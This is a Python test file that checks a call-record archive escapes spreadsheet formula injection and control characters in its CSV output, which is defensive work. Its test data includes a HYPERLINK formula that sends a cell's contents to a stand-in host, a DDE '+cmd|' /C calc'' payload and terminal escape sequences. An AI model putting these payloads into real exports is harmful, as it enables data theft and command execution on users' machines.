"""No text of a record is a formula in a spreadsheet; numbers and ordinary texts are as they were."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

import earwitness
from earwitness.archive.dataset import Dataset
from earwitness.archive.record import CallRecord, write_record
from earwitness.archive.schema import Row
from earwitness.archive.spreadsheet import cell, write_csv
from earwitness.cli.common import print_csv
from earwitness.errors import Outcome
from earwitness.published.calls_csv import COLUMNS, read_published_csv, write_published_csv

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://e.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "text;=1+1",
    "text\t=1+1",
    "first line\n=1+1",
    "\uff1d1+1",
)
PLAIN = (
    "",
    "text",
    "-1.5",
    "+3",
    "1e-7",
    "12:30",
    "a = b",
    "x - y; +",
    "late by -3 ms; see it",
    "São Paulo – Tōkyō",
    "'q",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text: str) -> None:
    found = cell(text)
    for part in (
        text_part for piece in found.split(";") for line in piece.split("\n") for text_part in line.split("\t")
    ):
        assert not part.startswith(("=", "+", "-", "@", "\r", "\uff1d")), found
    assert found[:1] not in "\t\r\n"


def test_what_is_none_stays_as_it_is() -> None:
    assert [cell(text) for text in PLAIN] == list(PLAIN)
    assert [cell(value) for value in (-1.5, -3, None, True)] == [-1.5, -3, None, True]


def test_controls_are_shown() -> None:
    assert cell("a\x1b[2J\x9b\u202e\rb\tc") == "a\\x1b[2J\\x9b\\u202e\\x0db\tc"


def test_in_the_index(tmp_path: Path) -> None:
    with Dataset.open_or_create(tmp_path / "data") as dataset:
        for number, text in enumerate(FORMULAS):
            row = Row(
                call_id=f"{number:02}",
                direction="to_callee",
                verdict_reason=text,
                outcome_detail=text,
                pesq_raw=-0.5,
                seed=-1,
            )
            record = CallRecord(
                call_id=f"{number:02}",
                started_at=f"{number:02}",
                outcome=Outcome.FAILED,
                outcome_detail=text,
                rows=(row,),
            )
            with dataset.new_call(record.call_id) as folder:
                write_record(folder, record)
    with (tmp_path / "data" / "calls.csv").open(newline="") as file:
        lines = list(csv.DictReader(file))
    assert len(lines) == len(FORMULAS)
    for line, text in zip(lines, FORMULAS, strict=True):
        assert (line["pesq_raw"], line["seed"]) == ("-0.5", "-1")
        for value in line.values():
            assert value[:1] not in {"=", "+", "@", "\t", "\r", "\n", "\uff1d"}, value
        assert line["verdict_reason"] == cell(text) == line["outcome_detail"]
    frame = Dataset.open(tmp_path / "data").rows()
    assert list(frame["verdict_reason"]) == list(FORMULAS), "Parquet holds them as they are"


def test_in_frames_and_in_what_a_query_prints(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    frame = pd.DataFrame(
        {"=a": ["=1", "b"], "n": [-1, 2], "x": [-0.123456789, float("nan")], "s": pd.array(["@x", None], "string")}
    )
    frame["c"] = pd.Categorical(["-1+2", "-1"])
    frame["b"] = pd.array([True, None], "boolean")
    write_csv(frame, tmp_path / "t.csv", "%.6g")
    text = (tmp_path / "t.csv").read_text()
    assert text == "'=a,n,x,s,c,b\n'=1,-1,-0.123457,'@x,'-1+2,True\nb,2,,,-1,\n"
    print_csv(["=a", "n"], [("=1", -1), ("\x1b[2J", -0.5)])
    assert list(csv.reader(io.StringIO(capsys.readouterr().out))) == [["'=a", "n"], ["'=1", "-1"], ["\\x1b[2J", "-0.5"]]


def test_an_export_is_as_faithful_as_it_was(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        dict.fromkeys(COLUMNS, -0.25) | {"iteration_no": 1, "tor_status": "Tor", "location": name, "codec": "g711"}
        for name in ("1frank-lond", "=cmd()")
    ]
    write_published_csv(rows, tmp_path / "t.csv")
    found = read_published_csv(tmp_path / "t.csv")
    assert list(found["location"]) == ["1frank-lond", "'=cmd()"]
    assert list(found["caller_jitter_mean"]) == [-0.25, -0.25]


def test_no_table_is_written_around_it() -> None:
    source = Path(earwitness.__file__).parent
    writers = {path.relative_to(source).as_posix() for path in source.rglob("*.py") if ".to_csv(" in path.read_text()}
    assert writers == {"archive/spreadsheet.py"}
